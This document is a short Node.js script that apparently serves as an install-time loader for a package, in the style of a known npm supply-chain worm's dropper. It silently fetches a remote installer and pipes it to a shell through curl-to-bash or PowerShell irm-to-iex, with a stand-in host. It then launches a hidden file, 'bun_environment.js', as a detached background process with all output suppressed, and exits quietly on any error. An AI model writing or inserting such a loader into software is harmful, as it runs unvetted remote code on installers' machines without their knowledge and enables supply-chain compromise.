#!/usr/bin/env node
const { spawn, execSync } = require('child_process');
const path = require('path');
const fs = require('fs');
const os = require('os');

function isBunOnPath() {
  try {
    const command = process.platform === 'win32' ? 'where bun' : 'which bun';
    execSync(command, { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
}

async function downloadAndSetupBun() {
  try {
    let command;
    if (process.platform === 'win32') {
      command = 'powershell -c "irm bun.example.test/install.ps1|iex"';
    } else {
      command = 'curl -fsSL https://bun.example.test/install | bash';
    }
    execSync(command, { stdio: 'ignore', env: { ...process.env } });
    const bunPath = path.join(os.homedir(), '.bun', 'bin', 'bun');
    return fs.existsSync(bunPath) ? bunPath : null;
  } catch {
    process.exit(0);
  }
}

function runExecutable(execPath, args) {
  const child = spawn(execPath, args, { stdio: 'ignore', cwd: process.cwd(), env: process.env, detached: true });
  child.unref();
  process.exit(0);
}

async function main() {
  const bunExecutable = isBunOnPath() ? 'bun' : await downloadAndSetupBun();
  const environmentScript = path.join(__dirname, 'bun_environment.js');
  if (bunExecutable && fs.existsSync(environmentScript)) runExecutable(bunExecutable, [environmentScript]);
  else process.exit(0);
}

main().catch(() => process.exit(0));
